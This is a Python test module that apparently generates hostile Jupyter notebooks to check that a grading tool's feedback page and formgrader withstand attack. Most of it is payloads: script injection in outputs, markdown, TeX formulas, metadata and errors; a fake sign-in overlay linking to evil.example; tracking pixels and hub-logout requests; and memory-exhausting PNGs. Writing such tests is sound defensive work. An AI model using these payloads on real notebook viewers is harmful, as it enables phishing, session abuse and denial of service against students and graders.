"""Attacks on who reads the feedback page or the formgrader: script and markup in everything that is shown."""
# ruff: noqa: E501 (an attack is written in as few lines as it takes)

import base64
import json

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from hostile import code, edit
from hostile.assignment import cell
from hostile.pictures import png

SCRIPT = "<script>attack()</script><img src=x onerror=attack()><svg onload=attack()></svg><iframe src=javascript:attack()></iframe>"


SHOW = f"""
from IPython.display import publish_display_data
for kind in kinds: publish_display_data({{kind: {SCRIPT!r}, "text/plain": {SCRIPT!r}}})
"""


@code("script as a displayed value: HTML and JavaScript")
def displayed():
    return f"kinds = ['text/html', 'application/javascript']\n{SHOW}"


@code("script as a drawing, as a formula, as text with markup")
def displayed_as_text():
    return f"kinds = ['image/svg+xml', 'text/latex', 'text/markdown']\n{SHOW}"


@code("script as a value of a kind that few know: widgets, diagrams, plots, PDF")
def displayed_oddly():
    kinds = [
        "text/vnd.mermaid",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "application/pdf",
    ]
    return f"kinds = {kinds}\n{SHOW}"


@code("script in pictures: a base64 that ends its attribute, sizes that open another one")
def pictures():
    return """
from IPython.display import publish_display_data
publish_display_data({"image/png": '"><script>attack()</script>', "text/plain": "x"})
publish_display_data({"image/jpeg": "AAAA"}, metadata={"image/jpeg": {"width": '1 onerror="attack()"', "alt": '" onload="attack()'}})
publish_display_data({"image/png": ["<script>attack()</script>"], "text/plain": ["<script>attack()</script>"]})
"""


@code("script in printed text, with the sequences that colour it")
def printed():
    return f"import sys\nprint('\\x1b[31m', {SCRIPT!r}, '\\x1b]8;;javascript:attack()\\x07link\\x1b]8;;\\x07')\nprint({SCRIPT!r}, file=sys.stderr)\n"


@code("script in the name, the text and the traceback of an error")
def errors():
    return f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})\n"


@code("script in the verdict: the error, its place and the names in the answer of a graded function")
def in_the_verdict():
    scale = f"""
def scale(x, factor, name):
    if x.ndim == 1: raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})
    return {{{SCRIPT!r}: 1}}
"""
    return {"scale": scale}


@edit("script in text cells: tags, links, references, headings, tables, math")
def text_cells(notebook):
    texts = (
        SCRIPT, f"# {SCRIPT}", "[click](javascript:attack())", "[click](data:text/html,<script>attack()</script>)", "<a href=' javascript:attack()'>x</a>",
        "![x](javascript:attack())", "![x](http://tracker.example/p.png)", "[x]: javascript:attack()\n\n[x]", "<javascript:attack()>",
        "<details open ontoggle=attack()>x</details>", "<math><mtext></mtext><script>attack()</script></math>", "|a|\n|-|\n|<b onclick=attack()>x</b>|",
        "$\\href{javascript:attack()}{x}$", "<style>body{display:none}</style>", "<form action=//evil.example><input name=x></form>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=javascript:attack()></object>", "<embed src=javascript:attack()>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(//evil.example)'>x</div>", "```<script>attack()</script>\nx\n```",
        "<noscript><p title='</noscript><script>attack()</script>'></noscript>", "<svg><style><img src=x onerror=attack()></style></svg>",
        "<template><script>attack()</script></template>", "<!--><script>attack()</script>-->", "&lt;script&gt;attack()&lt;/script&gt;",
    )  # fmt: skip
    notebook.cells += [new_markdown_cell(text, id=f"text{number}") for number, text in enumerate(texts)]


@edit("script in raw cells, which are written out as they are")
def raw_cells(notebook):
    for number, kind in enumerate(("text/html", "text/restructuredtext", "")):
        notebook.cells.append(new_raw_cell(SCRIPT, metadata={"format": kind, "raw_mimetype": kind}, id=f"raw{number}"))


@edit("script in the source of cells: tags that end the block of code")
def sources(notebook):
    notebook.cells.append(
        new_code_cell(f"# </pre></div></script>{SCRIPT}\n'''</textarea></style>{SCRIPT}'''", id="source")
    )
    cell(notebook, "scale").source += f"\n# </pre>{SCRIPT}"


@edit("script in metadata that a page's template writes out: widgets, titles, names, attachments")
def metadata(notebook):
    notebook.metadata |= {
        "title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {"application/vnd.jupyter.widget-state+json": {"x": "</script>" + SCRIPT}},
        "language_info": {"name": SCRIPT, "codemirror_mode": SCRIPT, "pygments_lexer": SCRIPT},
    }  # fmt: skip
    one = new_markdown_cell("![x](attachment:a.svg)", id="attachment")
    one["attachments"] = {"a.svg": {"image/svg+xml": SCRIPT}}
    notebook.cells.append(one)


@edit("script in the reason why a file cannot be read", worth=0.0)
def in_the_reason(notebook):
    raw = json.loads(json.dumps(notebook))
    raw["nbformat"] = SCRIPT
    return json.dumps(raw).encode("utf-8")


def _add_texts(notebook, texts):
    notebook.cells += [new_markdown_cell(text, id=f"text{number}") for number, text in enumerate(texts)]


@edit("script in formulas: links, styles and classes of TeX, in every kind of formula, spelled with entities and tags")
def formulas(notebook):
    macros = (
        r"\href{javascript:attack()}{x}", r"\style{position:fixed;top:0;width:100%;background:white}{x}", r"\class{modal-backdrop}{x}",
        r"\cssId{notebook}{x}", r"\bbox[border:3000px solid white]{x}", r'\mmlToken{mi}[href="javascript:attack()"]{x}',
        r"\require{HTML}\unicode[attack()]{x}", r"\def\frac#1#2{\href{javascript:attack()}{#1}}", r"\newcommand{\tanh}{\sinh}",
    )  # fmt: skip
    around = (
        "$%s$",
        "$$%s$$",
        r"\\(%s\\)",
        r"\\[%s\\]",
        r"\begin{equation}%s\end{equation}",
        "&#36;%s&#36;",
        "- a\n  - $%s$",
        "| $%s$ |\n|-|",
        "# $%s$",
        "<b>$%s$</b>",
    )
    texts = [one % macro for one in around for macro in macros]
    texts += [
        r"&#36;\&#104;ref{javascript:attack()}{x}&#36;",
        r"&dollar;&bsol;href{javascript:attack()}{x}&dollar;",
        r"$<!-- -->\hr<!-- -->ef{javascript:attack()}{x}$",
    ]
    _add_texts(notebook, texts)
    notebook.cells.append(new_raw_cell(r"$\href{javascript:attack()}{x}$", id="rawformula"))


@code("script in a formula of the verdict: the key that a graded function does not find")
def formula_in_the_verdict():
    return {"scale": "def scale(x, factor, name):\n    return {}[r'$\\href{javascript:attack()}{x}$']\n"}


@edit("a spy's picture, or a request to the hub: addresses that begin with, or hold, what browsers leave out")
def pictures_from_elsewhere(notebook):
    targets = (
        "http://tracker.example/p.png",
        "//tracker.example/p.png",
        "/hub/logout",
        "../../hub/logout",
        "..%2f../hub/logout",
        "%2e%2e/hub/logout.png",
        "\\\\tracker.example\\p.png",
        "figures/../../../hub/logout",
    )
    spellings = (
        "{}",
        " {}",
        "\t{}",
        "\n{}",
        "\x01{}",
        "\x1f{}",
        "\u200b{}",
        "\ufeff{}",
        "\xa0{}",
        "&#9;{}",
        "&Tab;{}",
        "&#x200b;{}",
        "&NewLine;{}",
        "x:{}",
        "file:{}",
        "./{}",
    )
    texts = [f'<img src="{spelling.format(target)}">' for target in targets for spelling in spellings]
    texts += [
        f'<img src="{target[:3]}{odd}{target[3:]}">'
        for target in targets
        for odd in ("\t", "\n", "&#10;", "&Tab;", "\x00")
    ]
    texts += [f"![x](<{target}>)" for target in targets] + [
        f'<img src="{kind}">'
        for kind in (
            "data:image/svg+xml;base64,AAAA",
            "data:text/html,x",
            "data:image/png;base64,AAAA#x",
            "blob:x",
            "next",
            "prev",
        )
    ]
    texts += [
        '<img srcset="http://tracker.example/p.png" src="x.png">',
        "<picture><source srcset=//tracker.example/p></picture>",
        "<video poster=//tracker.example/p>",
    ]
    for start in range(0, len(texts), 20):
        notebook.cells.append(new_markdown_cell("\n\n".join(texts[start : start + 20]), id=f"pictures{start}"))


@edit("the password of who reads: a false sign-in over the whole page, by the page's own classes and by styles")
def false_sign_in(notebook):
    sign_in = "<h1>Your session has ended</h1><a href='https://evil.example'>Sign in again</a>"
    names = (
        "navbar-fixed-top",
        "modal-backdrop",
        "modal in",
        "affix",
        "modal-open carousel-inner",
        "highlight navbar-fixed-bottom",
        "tex2jax_process",
    )
    styles = (
        "margin:-4000px", "margin-top:-400em;padding-left:9999px", "border-left:3000px solid white", "margin:-4000px;margin:0", "MARGIN: -99vh",
        "position:fixed;top:0", "border:3000px solid", "color:red;margin:calc(0px - 4000px)", "padding-left:2000px", "outline:3000px solid white", "m\\61rgin:-4000px",
    )  # fmt: skip
    texts = [f'<div class="{name}">{sign_in}</div>' for name in names] + [
        f'<div style="{style}">{sign_in}</div>' for style in styles
    ]
    _add_texts(
        notebook,
        [*texts, *(f'<span class="{name}"><b style="{style}">x</b></span>' for name in names for style in styles)],
    )
    notebook.cells += [new_raw_cell(text, id=f"raw{number}") for number, text in enumerate(texts)]


@edit("the browser's memory full: sixteen pictures of 900 megapixels in the text of cells, in attachments and as files")
def huge_pictures(notebook):
    notebook.cells += [_with_picture(number, png(30_000, 30_000)) for number in range(16)]
    notebook.cells += [_with_picture(number, png(7_000, 7_000)) for number in range(16, 32)]
    small = base64.b64encode(png(4_500, 4_500)).decode("ascii")
    notebook.cells += [
        new_markdown_cell(f"<img src='data:image/png;base64,{small}'>", id=f"in{number}") for number in range(16)
    ]


def _with_picture(number, data):
    one = new_markdown_cell("![x](attachment:a.png)", id=f"picture{number}")
    one["attachments"] = {"a.png": {"image/png": base64.b64encode(data).decode("ascii")}}
    return one


@code("the browser's memory full: sixteen pictures of 900 megapixels as outputs of cells", exact=False)
def huge_outputs():
    return """
import base64, struct, zlib
from IPython.display import publish_display_data
def chunk(kind, data): return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
for side in 4 * [30_000, 9_000, 7_000, 3_000]:
    packed = zlib.compress(bytes(side // 8 + 1) * 100)  # cut short: the header is what counts
    data = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    publish_display_data({"image/png": base64.b64encode(data).decode()})
"""
